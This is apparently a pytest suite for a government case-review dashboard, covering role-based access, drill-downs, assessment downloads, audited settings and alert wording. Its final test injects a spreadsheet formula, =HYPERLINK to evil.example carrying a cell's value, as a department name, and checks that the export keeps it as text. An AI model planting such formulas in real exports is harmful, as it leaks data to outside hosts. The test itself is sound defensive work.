"""The dashboard and the node assessment: who sees what, numbers that link to their cases, downloads,
weights, and no personal data."""
from __future__ import annotations

import csv
import io
import json
import re

from conftest import login
from openpyxl import load_workbook
from sqlalchemy import select

from engine import alerts, kpis
from engine.models import AuditEntry, Task


def _period(world) -> str:
    return kpis.current_period("quarter", world.rt.calendar.tz).label


def test_who_sees_the_dashboard(app, demo):
    assert login(app.test_client(), "edu_reviewer").get("/dashboard").status_code == 403
    assert login(app.test_client(), "designer").get("/dashboard").status_code == 403
    for user in ("admin", "auditor", "joint_supervisor"):
        page = login(app.test_client(), user).get("/dashboard").data.decode()
        assert 'data-department="EDU"' in page and 'data-department="PSB"' in page, user
    chief = login(app.test_client(), "psb_supervisor")
    page = chief.get("/dashboard?department=EDU").data.decode()
    assert 'data-department="PSB"' in page and 'data-department="EDU"' not in page
    drill = chief.get(f"/dashboard/cases?figure=completed&period={_period(demo)}&group=department&value=EDU").data.decode()
    body = drill.split("<tbody>")[1].split("</tbody>")[0]
    assert "<td>公安局</td>" in body and "<td>教育局</td>" not in body  # another department's steps stay hidden
    days = re.findall(r"<td>(\d+\.\d+)</td><td>(?:是|否|—)</td></tr>", body)
    assert days and all(len(d.split(".")[1]) == 1 for d in days), "working days to one decimal (2.9, not 2.9167)"


def test_numbers_link_to_the_cases_behind_them(app, demo):
    client = login(app.test_client(), "admin")
    period = _period(demo)
    page = client.get(f"/dashboard?period={period}").data.decode()
    data = json.loads(page.split('id="dashboard-data">')[1].split("</script>")[0])
    area, count = next((a, n) for a, n in data["volume"]["by_area"].items() if a)
    assert f"figure=accepted&amp;period={period}&amp;group=area&amp;value=" in page
    drill = client.get("/dashboard/cases", query_string={"figure": "accepted", "period": period, "group": "area",
                                                          "value": area}).data.decode()
    assert drill.count('href="/cases/') == count
    with demo.rt.db.read() as session:
        figures = kpis.figures(session, kpis.parse_period(period), kpis.Scope(), demo.rt.calendar.tz)
    assert f">{figures['volume']['accepted'].get('admission_review', 0)}<" in page


def test_the_dashboard_shows_no_personal_data(app, demo):
    page = login(app.test_client(), "admin").get("/dashboard").data.decode()
    drill = login(app.test_client(), "admin").get(f"/dashboard/cases?figure=accepted&period={_period(demo)}").data.decode()
    with demo.rt.db.read() as session:
        names = [json.loads(d).get("data", {}).get("applicant_name") for d in session.execute(
            select(AuditEntry.details).where(AuditEntry.event == "case_started")).scalars()]
    assert names and not [n for n in names if n and (n in page or n in drill)]


def test_node_assessment_downloads(app, demo):
    client = login(app.test_client(), "auditor")
    period = _period(demo)
    download = client.get(f"/dashboard/assessment.xlsx?period={period}")
    assert download.headers["Content-Disposition"] == f'attachment; filename="node-assessment-{period}.xlsx"'
    book = load_workbook(io.BytesIO(download.data))
    sheet = book.active
    header = [c.value for c in sheet[1]]
    assert header[0] == "部门" and "得分" in header and sheet.auto_filter.ref.startswith("A1:")
    assert sheet.max_row == 1 + 8 + 6  # one row per department and per street office (the demo's units)
    assert "文新街道" in [c.value for c in sheet["A"]]
    rates = [c.column for c in sheet[1] if c.value in ("按时办结率", "函询按时答复率", "决定未被改变率")]
    assert len(rates) == 3, header
    cells = [sheet.cell(row, column) for column in rates for row in range(2, sheet.max_row + 1)]
    assert all(c.number_format == "0.0%" for c in cells), "rates read as percentages (83.0%), not 0.83"
    assert [c.value for c in cells if c.value is not None] and all(0 <= c.value <= 1 for c in cells if c.value is not None)
    text = client.get(f"/dashboard/assessment.csv?period={period}").data.decode("utf-8-sig")
    assert text.splitlines()[0].startswith("部门,办结环节数,按时办结率")
    on_time = [row[2] for row in csv.reader(io.StringIO(text))][1:]
    assert on_time and all(re.fullmatch(r"\d{1,3}\.\d%", v) or v == "" for v in on_time), on_time
    assert client.get("/dashboard/assessment.pdf").status_code == 404


def test_only_administrators_set_the_weights_and_it_is_audited(app, demo):
    auditor = login(app.test_client(), "auditor")
    assert auditor.post("/dashboard/assessment/weights", data={"timeliness": "1"}).status_code == 403
    admin = login(app.test_client(), "admin")
    bad = admin.post("/dashboard/assessment/weights", data={"timeliness": "lots", "speed": "0.2"}, follow_redirects=True)
    assert "权重未保存" in bad.data.decode()
    weights = {"timeliness": "0.5", "speed": "0.1", "accuracy": "0.2", "satisfaction": "0.1", "inquiries": "0.1"}
    ok = admin.post("/dashboard/assessment/weights", data=weights, follow_redirects=True).data.decode()
    assert "权重已保存" in ok and 'value="50"' in ok
    with demo.rt.db.read() as session:
        entry = session.execute(select(AuditEntry).where(AuditEntry.event == "assessment_weights_set")).scalar_one()
    assert entry.actor == "admin" and json.loads(entry.details)["after"]["timeliness"] == 0.5


def test_a_bad_period_is_named(app, demo):
    page = login(app.test_client(), "admin").get("/dashboard?period=2026Q9", follow_redirects=True).data.decode()
    assert "2026Q9" in page and "不是年、季度或月份" in page


def test_auditors_download_the_event_log_and_it_is_recorded(app, demo):
    assert login(app.test_client(), "edu_supervisor").get("/audit/eventlog").status_code == 403
    client = login(app.test_client(), "auditor")
    response = client.get("/audit/eventlog?format=xes&process=subsidy_approval")
    body = response.data.decode()
    assert response.status_code == 200 and body.startswith("<?xml") and body.rstrip().endswith("</log>")
    assert "<trace>" in body and "ADM-" not in body
    exported = client.get("/audit/eventlog?format=csv")
    assert exported.data.decode().startswith("case:concept:name,")
    assert exported.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert client.get("/audit/eventlog?from=yesterday").status_code == 400
    with demo.rt.db.read() as session:
        exports = session.execute(select(AuditEntry).where(AuditEntry.event == "event_log_exported")).scalars().all()
    assert [e.actor for e in exports] == ["auditor", "auditor"]


def test_the_event_log_is_asked_for_a_deployed_process_by_its_name(app, demo):
    """The export offers the deployed processes by name; a name no process has is refused, named, and nothing is
    exported (it used to give a file with only the header)."""
    client = login(app.test_client(), "auditor")
    page = client.get("/audit").data.decode()
    offered = re.search(r'<select name="process"[^>]*>(.*?)</select>', page, re.S).group(1)
    assert '<option value="subsidy_approval">' in offered and '<option value="">全部流程</option>' in offered
    refused = client.get("/audit/eventlog?format=xes&process=积分入学审核")
    assert refused.status_code == 400 and "未部署名为“积分入学审核”的流程" in refused.data.decode()
    assert re.search(r'<option value="admission_review">积分入学联审</option>', offered)
    exported = client.get("/audit/eventlog?format=csv&process=积分入学联审").data.decode()  # typed by its name
    assert exported.count("\n") > 1 and "ADM-" in exported and "SUB-" not in exported
    with demo.rt.db.read() as session:
        exports = session.execute(select(AuditEntry).where(AuditEntry.event == "event_log_exported")).scalars().all()
    assert [json.loads(e.details)["process"] for e in exports] == ["admission_review"]


def test_stagnation_alerts_on_the_team_case_and_alerts_pages(app, demo):
    with demo.rt.db.read() as session:
        raised = alerts.open_alerts(session)
    assert raised, "the demo's rules raise alerts on its stalled cases"
    mine = next(a for a in raised if a["department"])
    chief = login(app.test_client(), f"{mine['department'].lower()}_supervisor")
    team = chief.get("/team").data.decode()
    assert 'id="alerts"' in team and mine["business_key"] in team
    case = chief.get(f"/cases/{mine['business_key']}").data.decode()
    assert 'id="alerts"' in case and "滞留预警" in case
    shown = re.search(r'<div class="flash error" id="alerts">(.*?)</div>', case, re.S).group(1)
    assert shown.startswith("滞留预警：") and "滞留预警： " not in shown and "）（" not in shown, shown
    assert re.match(r"滞留预警：\S+局 · |滞留预警：\S+(办|委) · ", shown), "the department first, not a second （…） after the first"
    page = login(app.test_client(), "joint_head").get("/dashboard/alerts").data.decode()
    assert page.count('href="/cases/') >= min(len(raised), 25) and "预警规则" in page  # a page of them


def test_only_administrators_change_alert_rules(app, demo):
    assert login(app.test_client(), "joint_head").post("/dashboard/alerts/rules",
                                                       data={"remove": "1"}).status_code == 403
    admin = login(app.test_client(), "admin")
    bad = admin.post("/dashboard/alerts/rules", data={"process_key": "admission_review", "kind": "sla", "threshold": "500"},
                     follow_redirects=True).data.decode()
    assert "规则未保存" in bad
    ok = admin.post("/dashboard/alerts/rules", data={"process_key": "admission_review", "kind": "idle", "threshold": "7"},
                    follow_redirects=True).data.decode()
    assert "规则已保存" in ok and "已7个工作日无进展" in ok
    with demo.rt.db.read() as session:
        rule_id = max(r.id for r in alerts.rules(session))
    gone = admin.post("/dashboard/alerts/rules", data={"remove": str(rule_id)}, follow_redirects=True).data.decode()
    assert "规则已删除" in gone and f'data-rule="{rule_id}"' not in gone
    with demo.rt.db.read() as session:
        events = [e.event for e in session.execute(select(AuditEntry).where(
            AuditEntry.event.in_(("alert_rule_added", "alert_rule_removed")))).scalars()]
    assert events.count("alert_rule_removed") == 1


def test_the_team_page_names_the_step_of_each_alert(app, demo, monkeypatch):
    """滞留预警 on the team page: a column 环节 with the step each alert is about (a step's alert its step, a case's
    alert the case's open steps in the alert's department), linked to the step."""
    monkeypatch.setattr("web.team.TEAM_ALERTS", 1000)  # every alert on the page (it shows the first ten)
    with demo.rt.db.read() as session:
        raised = alerts.open_alerts(session)
        mine = next(a for a in raised if a["department"] and a["steps"])
        department = mine["department"]
        theirs = alerts.open_alerts(session, [department])
        tasks = {t.id: t for t in session.execute(select(Task).where(Task.id.in_(
            [s[3] for a in theirs for s in a["steps"]]))).scalars()}
    team = login(app.test_client(), f"{department.lower()}_supervisor").get("/team").data.decode()
    table = team.split('id="alerts"')[1].split("</table>")[0]
    assert "<th>环节</th>" in table.split("</thead>")[0]
    rows = table.split("<tbody>")[1].split("</tr>")[:-1]
    assert len(rows) == len(theirs)
    for row, alert in zip(rows, theirs):
        for _, _, name, task_id in alert["steps"]:
            task = tasks[task_id]
            assert f'href="/tasks/{task_id}">{name}</a>' in row
            assert task.department_code == department
            assert task.id == alert["task_id"] if alert["kind"] == "sla" else task.state == "open"


def test_the_drill_down_title_names_each_thing_once(app, demo):
    """From the node assessment a department's supervisor drills into their own department: the page and its title
    name 教育局 once (not 教育局 · 教育局), and a process by its name, not its code."""
    period = _period(demo)
    chief = login(app.test_client(), "edu_supervisor")
    page = chief.get(f"/dashboard/cases?figure=completed&period={period}&group=department&value=EDU").data.decode()
    title = page.split("<title>")[1].split("</title>")[0]
    heading = page.split("<h1>")[1].split("</h1>")[0]
    assert title.startswith("教育局 · 已办结 · ") and title.endswith(" · 指标对应的案件 · JointReview"), title
    assert title.count("教育局") == 1 and heading.count("教育局") == 1, (title, heading)
    page = login(app.test_client(), "admin").get(
        f"/dashboard/cases?figure=accepted&period={period}&group=process&value=admission_review").data.decode()
    title = page.split("<title>")[1].split("</title>")[0]
    assert "admission_review" not in title and "admission_review" not in page.split("<h1>")[1].split("</h1>")[0]
    assert title.split(" · ")[0] in page.split("<h1>")[1] and title.count(" · ") == 4, title


def test_an_alert_on_a_step_past_its_time_limit_says_it_is_overdue(app, demo, monkeypatch):
    """A step's alert raised at 80 % of its time limit: once the limit is past it says how long overdue, not 80 %."""
    monkeypatch.setattr("web.team.TEAM_ALERTS", 1000)  # every alert on the page (it shows the first ten)
    from datetime import datetime, timezone
    with demo.rt.db.read() as session:
        late = [a for a in alerts.open_alerts(session) if a["kind"] == "sla" and a["due_at"]
                and a["due_at"] < datetime.now(timezone.utc)]
    assert late, "the demo has overdue steps with an alert"
    alert = late[0]
    team = login(app.test_client(), f"{alert['department'].lower()}_supervisor").get("/team").data.decode()
    row = next(r for r in team.split('id="alerts"')[1].split("</table>")[0].split("</tr>")
               if f"/tasks/{alert['task_id']}" in r)
    assert "环节已超过办理时限（已超期" in row and "个工作日）" in row and "已用去办理时限" not in row


def test_the_handling_time_spread_is_said_in_plain_words(app, demo):
    """Not "中位数 1.0, p90 2.92, n = 127": half the cases within …, nine in ten within … (how many), in both languages."""
    client = login(app.test_client(), "admin")
    period = _period(demo)
    with demo.rt.db.read() as session:
        handling = kpis.figures(session, kpis.parse_period(period), kpis.Scope(), demo.rt.calendar.tz)["handling"]
    assert handling.get("median") is not None and handling.get("p90") is not None, "the demo decides enough cases"
    line = re.search(r'<p class="muted" id="handling-spread">(.*?)</p>', client.get(f"/dashboard?period={period}")
                     .data.decode(), re.S).group(1)
    said = (f"办理时长：一半案件在{handling['median']:.1f}个工作日内办结，九成在{handling['p90']:.1f}个工作日内"
            f"（共<a href=\"/dashboard/cases?figure=handling&amp;period={period}\">{handling['n']}</a>件）")
    assert said in line and "p90" not in line and "中位数" not in line and "n =" not in line, line
    assert re.search(r"%（<a [^>]*figure=several_visits[^>]*>多次补正的案件</a>）", line), \
        "the aside is in full-width parentheses, as Chinese text is"
    assert " (" not in line and ") " not in line, line
    client.post("/language", data={"language": "en", "next": "/dashboard"})
    english = client.get(f"/dashboard?period={period}").data.decode()
    assert re.search(rf"Handling time: half the cases were decided within {handling['median']:.1f} working days, nine in "
                     rf"ten within {handling['p90']:.1f} \(<a [^>]*>{handling['n']}</a> cases\)", english)


def test_the_assessment_page_says_how_the_parts_are_counted(app, demo):
    """The page states the method next to the figures: overdue open steps count against timeliness, inquiries are
    judged on those answered and those past their deadline; the answered inquiries have a column of their own."""
    page = login(app.test_client(), "auditor").get(f"/dashboard/assessment?period={_period(demo)}").data.decode()
    method = re.search(r'<p class="muted" id="method">(.*?)</p>', page, re.S).group(1)
    assert "期末超期未办环节数" in method and "超期未答复数" in method and "其他案件的环节中发出" in method
    header = re.search(r"<thead>(.*?)</thead>", page, re.S).group(1)
    assert header.index("收到函询") < header.index("已答复函询") < header.index("函询按时答复率")
    rows = re.findall(r'<tr data-department="([^"]+)">', page)
    assert len(rows) == 8 + 6 and len(re.findall(r'<td class="inquiries_answered">\d+</td>', page)) == len(rows)
    # the scored timeliness stands beside the on-time rate of the completed steps: the two differ by the open overdue
    assert header.index("按时办结率") < header.index("办结时效（计分）")
    from engine import assessment
    with demo.rt.db.read() as session:
        result = assessment.assess(session, kpis.parse_period(_period(demo)), ["EDU"], demo.rt.calendar.tz)
    edu = assessment.flat(result["departments"][0])
    cell = re.search(r'<tr data-department="EDU">.*?<td class="timeliness">([^<]*)</td>', page, re.S).group(1)
    assert cell == (f"{100 * edu['timeliness']:.1f}%" if edu["timeliness"] is not None else "—")
    assert edu["overdue_open_at_end"] == 0 or edu["timeliness"] is None or edu["timeliness"] < edu["on_time"]


def test_node_assessment_downloads_keep_text_as_text(app, world):
    """A department's name starting with = became a live formula in the Excel download (openpyxl writes such a string as
    a formula) and was read as one from the CSV: =HYPERLINK(…) under a street office's name (found by a hostile-input
    review)."""
    from engine import directory
    from engine.routing import Actor
    name = '=HYPERLINK("http://evil.example/?x="&A2,"点此核对")'
    with world.rt.db.write() as session:
        directory.add_unit(session, Actor.system("test"), "STREET-EV", name, "", "STREET", "西湖区", [])
    client = login(app.test_client(), "auditor")
    sheet = load_workbook(io.BytesIO(client.get(f"/dashboard/assessment.xlsx?period={_period(world)}").data)).active
    cell = next(c for c in sheet["A"] if "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == name, (cell.data_type, cell.value)
    text = client.get(f"/dashboard/assessment.csv?period={_period(world)}").data.decode("utf-8-sig")
    assert "\n'=HYPERLINK(" in text.replace('"', "") and "\n=HYPERLINK" not in text.replace('"', "")
